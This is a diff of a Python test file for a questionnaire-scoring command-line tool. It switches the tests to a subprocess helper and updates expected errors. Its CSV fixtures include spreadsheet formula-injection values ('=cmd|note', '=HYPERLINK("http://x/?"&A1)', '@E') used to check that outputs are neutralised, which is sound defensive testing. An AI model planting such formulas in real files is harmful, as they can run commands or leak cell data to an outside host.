@@ -23,6 +23,7 @@ import cli
 from scoring.cells import neutralise, neutralise_array, neutralise_frame, neutralise_series
 from scoring.loader import MAX_DEPTH, QuestionnaireError, load_questionnaire
 from scoring.model import FIRM_NAME_MAX, FirmProfile
+from tests.cli_helpers import run_cli
 from tests.conftest import TINY, load_yaml
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -124,7 +125,7 @@ def test_an_alias_inside_itself_is_refused():
 
 def test_an_integer_of_5000_digits_in_yaml():
     (found,) = problems_of("id: " + "9" * 5000 + "\n")
-    assert found == "bad.yaml: (top): a number has too many digits"
+    assert found == "bad.yaml:1: (top): not valid YAML: a number has too many digits"
 
 
 def test_a_control_character_names_its_line():
@@ -133,7 +134,7 @@ def test_a_control_character_names_its_line():
 
 
 def test_duplicate_keys_are_found_in_catalogue_files_too(tmp_path):
-    from scoring.profile import load_profile
+    from scoring.profile import ProfileError, load_profile
 
     source = ROOT / "questionnaires" / "reference" / "profile.yaml"
     lines = source.read_text(encoding="utf-8").splitlines()
@@ -141,7 +142,7 @@ def test_duplicate_keys_are_found_in_catalogue_files_too(tmp_path):
     lines.insert(first_key + 1, lines[first_key])  # the same top-level key again, right after
     path = tmp_path / "profile.yaml"
     path.write_text("\n".join(lines) + "\n", encoding="utf-8")
-    with pytest.raises(QuestionnaireError) as info:
+    with pytest.raises(ProfileError) as info:
         load_profile(path)
     assert f"{path}:{first_key + 2}: " in str(info.value) and "given twice" in str(info.value)
 
@@ -155,29 +156,27 @@ def test_firm_profile_bounds_the_name():
         FirmProfile(name="x" * 1_000_000)
 
 
-def test_report_refuses_a_million_character_name_before_rendering(tmp_path, capsys, monkeypatch):
+def test_report_refuses_a_million_character_name_before_rendering(tmp_path, monkeypatch):
     import report
 
     monkeypatch.setattr(report, "render_pdf", lambda *a, **k: pytest.fail("render_pdf must not be called"))
     answers = tmp_path / "a.json"
     answers.write_text("{}")
-    with pytest.raises(SystemExit) as exit_info:
-        cli.main(["report", "quick_check", str(answers), "-o", str(tmp_path / "r.pdf"), "--name", "x" * 1_000_000])
-    assert exit_info.value.code == 2
-    err = capsys.readouterr().err
+    done = run_cli("report", "quick_check", str(answers), "-o", str(tmp_path / "r.pdf"), "--name", "x" * 1_000_000)
+    assert done.returncode == 2  # argparse: a bad argument
+    err = done.stderr
     assert f"argument --name: at most {FIRM_NAME_MAX} characters, got 1,000,000" in err
     assert len(err) < 2000 and "Traceback" not in err
     assert not (tmp_path / "r.pdf").exists()
 
 
-def test_bad_staff_and_province_are_argument_errors(tmp_path, capsys):
+def test_bad_staff_and_province_are_argument_errors(tmp_path):
     answers = tmp_path / "a.json"
     answers.write_text("{}")
     for extra, message in ((["--staff", "-3"], "number of staff from 0"), (["--staff", "9" * 400], "number of staff from 0"),
                            (["--province", "atlantis"], "no province 'atlantis'")):
-        with pytest.raises(SystemExit):
-            cli.main(["recommend", "quick_check", str(answers), *extra])
-        assert message in capsys.readouterr().err
+        done = run_cli("recommend", "quick_check", str(answers), *extra)
+        assert done.returncode == 2 and message in done.stderr
 
 
 # ------------------------------------------------------------------ hostile answer files
@@ -209,14 +208,15 @@ def tiny_file(tmp_path) -> Path:
 
 @pytest.mark.parametrize("case", list(HOSTILE_JSON))
 @pytest.mark.parametrize("command", ["score", "recommend", "report"])
-def test_hostile_answer_files_get_one_clear_message(case, command, tiny_file, tmp_path, capsys):
+def test_hostile_answer_files_get_one_clear_message(case, command, tiny_file, tmp_path):
     content, message = HOSTILE_JSON[case]
     path = tmp_path / "answers.json"
     path.write_bytes(content)
     extra = ["-o", str(tmp_path / "r.pdf")] if command == "report" else []
     questionnaire = "quick_check" if command != "score" else str(tiny_file)
-    assert cli.main([command, questionnaire, str(path), *extra]) == 1
-    err = capsys.readouterr().err
+    done = run_cli(command, questionnaire, str(path), *extra)
+    assert done.returncode == 1
+    err = done.stderr
     assert message in err, err
     assert err.startswith(f"{path}: ") and len(err) < 2000 and "Traceback" not in err
 
@@ -230,7 +230,7 @@ def test_a_real_process_prints_no_traceback(tiny_file, tmp_path):
     assert done.returncode == 1 and done.stderr == f"{path}: not valid JSON: nested too deeply\n"
 
 
-def test_an_unexpected_error_is_one_line_and_exit_70(monkeypatch, capsys, tiny_file):
+def test_an_unexpected_error_is_one_line_and_exit_70(monkeypatch, tiny_file):
     import commands.scoring as scoring_commands
 
     def boom(q):
@@ -238,8 +238,9 @@ def test_an_unexpected_error_is_one_line_and_exit_70(monkeypatch, capsys, tiny_f
 
     monkeypatch.setattr(scoring_commands, "describe", boom)
     monkeypatch.delenv("SME_DEBUG", raising=False)
-    assert cli.main(["describe", str(tiny_file)]) == cli.INTERNAL_ERROR
-    err = capsys.readouterr().err
+    done = run_cli("describe", str(tiny_file))
+    assert done.returncode == cli.INTERNAL_ERROR
+    err = done.stderr
     assert err.count("\n") == 1 and "internal error (RuntimeError: something nobody expected)" in err
 
 
@@ -254,12 +255,12 @@ BAD_CELLS = "D,no,,none,0,na,backup=no;passwords=no,fine,one too many"
 BAD_TWO = "@E,no,,none,9,na,backup=no,-1+1"
 
 
-def run_csv(tiny_file, tmp_path, lines: list[str], *extra: str, capsys) -> tuple[int, str, Path]:
+def run_csv(tiny_file, tmp_path, lines: list[str], *extra: str) -> tuple[int, str, Path]:
     source = tmp_path / "many.csv"
     source.write_text("\n".join(lines) + "\n", encoding="utf-8")
     out = tmp_path / "scored.csv"
-    code = cli.main(["score", str(tiny_file), "--csv", str(source), "-o", str(out), *extra])
-    return code, capsys.readouterr().err, out
+    done = run_cli("score", str(tiny_file), "--csv", str(source), "-o", str(out), *extra)
+    return done.returncode, done.stderr, out
 
 
 def read_rows(path: Path) -> list[dict[str, str]]:
@@ -267,9 +268,9 @@ def read_rows(path: Path) -> list[dict[str, str]]:
         return list(csv.DictReader(fh))
 
 
-def test_a_batch_writes_the_good_rows_and_lists_the_bad_ones(tiny_file, tmp_path, capsys):
+def test_a_batch_writes_the_good_rows_and_lists_the_bad_ones(tiny_file, tmp_path):
     lines = [HEADER, GOOD_A, BAD_OPTION, GOOD_B, BAD_CELLS, BAD_TWO]
-    code, err, out = run_csv(tiny_file, tmp_path, lines, capsys=capsys)
+    code, err, out = run_csv(tiny_file, tmp_path, lines)
     assert code == 3
     scored = read_rows(out)
     assert [r["firm"] for r in scored] == ["A", "B"]
@@ -284,9 +285,9 @@ def test_a_batch_writes_the_good_rows_and_lists_the_bad_ones(tiny_file, tmp_path
     assert "2 rows scored" in err and "3 rows failed (4 problems)" in err and "scored.errors.csv" in err
 
 
-def test_a_batch_neutralises_formulas_in_copied_columns_and_names(tiny_file, tmp_path, capsys):
+def test_a_batch_neutralises_formulas_in_copied_columns_and_names(tiny_file, tmp_path):
     lines = [HEADER.replace("note", "=cmd|note"), GOOD_A, GOOD_B]
-    code, _, out = run_csv(tiny_file, tmp_path, lines, capsys=capsys)
+    code, _, out = run_csv(tiny_file, tmp_path, lines)
     assert code == 0
     scored = read_rows(out)
     assert list(scored[0])[:2] == ["firm", "'=cmd|note"]
@@ -294,9 +295,8 @@ def test_a_batch_neutralises_formulas_in_copied_columns_and_names(tiny_file, tmp
     assert not (tmp_path / "scored.errors.csv").exists()
 
 
-def test_every_row_bad_still_writes_a_header_and_exit_3(tiny_file, tmp_path, capsys):
-    code, _, out = run_csv(tiny_file, tmp_path, [HEADER, BAD_OPTION, BAD_TWO], "--errors", str(tmp_path / "e.csv"),
-                           capsys=capsys)
+def test_every_row_bad_still_writes_a_header_and_exit_3(tiny_file, tmp_path):
+    code, _, out = run_csv(tiny_file, tmp_path, [HEADER, BAD_OPTION, BAD_TWO], "--errors", str(tmp_path / "e.csv"))
     assert code == 3
     assert read_rows(out) == [] and out.read_text().startswith('"firm","note"')
     errors = read_rows(tmp_path / "e.csv")
@@ -304,9 +304,9 @@ def test_every_row_bad_still_writes_a_header_and_exit_3(tiny_file, tmp_path, cap
     assert errors[-1]["why"] == "practices.passwords: row not answered"
 
 
-def test_a_batch_error_file_cannot_run_formulas(tiny_file, tmp_path, capsys):
+def test_a_batch_error_file_cannot_run_formulas(tiny_file, tmp_path):
     row = GOOD_B.replace("B,no,,none,0,", "B,=1+1,,none,-5,")
-    code, _, _ = run_csv(tiny_file, tmp_path, [HEADER, row], capsys=capsys)
+    code, _, _ = run_csv(tiny_file, tmp_path, [HEADER, row])
     assert code == 3
     errors = read_rows(tmp_path / "scored.errors.csv")
     assert [e["why"] for e in errors] == [
@@ -315,11 +315,11 @@ def test_a_batch_error_file_cannot_run_formulas(tiny_file, tmp_path, capsys):
     ]
 
 
-def test_a_batch_keeps_quoted_line_breaks_and_a_bom(tiny_file, tmp_path, capsys):
+def test_a_batch_keeps_quoted_line_breaks_and_a_bom(tiny_file, tmp_path):
     source = tmp_path / "excel.csv"
     source.write_bytes(("\ufeff" + HEADER + "\n" + GOOD_A.replace(',=HYPERLINK("http://x/?"&A1)', ',"two\nlines"') + "\n").encode())
     out = tmp_path / "o.csv"
-    assert cli.main(["score", str(tiny_file), "--csv", str(source), "-o", str(out)]) == 0
+    assert run_cli("score", str(tiny_file), "--csv", str(source), "-o", str(out)).returncode == 0
     (row,) = read_rows(out)
     assert row["firm"] == "A" and row["note"] == "two\nlines" and row["total"] == "24"
 
@@ -333,26 +333,27 @@ def test_a_batch_keeps_quoted_line_breaks_and_a_bom(tiny_file, tmp_path, capsys)
         (b"firm,has_site,firm\nA,yes,B\n", "column 'firm' appears twice in the header"),
     ],
 )
-def test_a_broken_csv_file_is_one_clear_message(tiny_file, tmp_path, capsys, content, message):
+def test_a_broken_csv_file_is_one_clear_message(tiny_file, tmp_path, content, message):
     source = tmp_path / "many.csv"
     source.write_bytes(content)
-    assert cli.main(["score", str(tiny_file), "--csv", str(source), "-o", str(tmp_path / "o.csv")]) == 1
-    err = capsys.readouterr().err
+    done = run_cli("score", str(tiny_file), "--csv", str(source), "-o", str(tmp_path / "o.csv"))
+    assert done.returncode == 1
+    err = done.stderr
     assert err == f"{source}: {message}\n" or (message in err and err.startswith(f"{source}: ")), err
 
 
-def test_a_missing_required_column_is_noted(tiny_file, tmp_path, capsys):
-    code, err, _ = run_csv(tiny_file, tmp_path, ["firm,has_site", "A,yes"], capsys=capsys)
+def test_a_missing_required_column_is_noted(tiny_file, tmp_path):
+    code, err, _ = run_csv(tiny_file, tmp_path, ["firm,has_site", "A,yes"])
     assert code == 3
     assert "no column for 5 required questions: site_updates, channels, skill, online_share, practices" in err
 
 
-def test_a_batch_scores_the_same_as_one_by_one(tiny_file, tmp_path, capsys):
+def test_a_batch_scores_the_same_as_one_by_one(tiny_file, tmp_path):
     """The good rows of a mixed file carry the numbers the single path gives."""
     from scoring.engine import score_assessment
 
     tiny = load_questionnaire(tiny_file)
-    _, _, out = run_csv(tiny_file, tmp_path, [HEADER, GOOD_A, BAD_OPTION, GOOD_B], capsys=capsys)
+    _, _, out = run_csv(tiny_file, tmp_path, [HEADER, GOOD_A, BAD_OPTION, GOOD_B])
     scored = read_rows(out)
     single = score_assessment(tiny, {"has_site": "no", "channels": ["none"], "skill": 0, "online_share": "na",
                                      "practices": {"backup": "no", "passwords": "no"}})
@@ -397,8 +398,8 @@ def test_arrow_and_python_neutralise_alike():
     assert neutralise_array(pa.array([1, -2])).to_pylist() == [1, -2]
 
 
-def test_json_output_keeps_unicode(tiny_file, tmp_path, capsys):
+def test_json_output_keeps_unicode(tiny_file, tmp_path):
     path = tmp_path / "a.json"
     path.write_bytes(json.dumps({"notes": "Ghi chú"}, ensure_ascii=False).encode("utf-8-sig"))  # with a BOM
-    assert cli.main(["score", str(tiny_file), str(path)]) == 1  # required answers missing: listed
-    assert "required answer missing" in capsys.readouterr().err
+    done = run_cli("score", str(tiny_file), str(path))
+    assert done.returncode == 1 and "required answer missing" in done.stderr  # required answers missing: listed
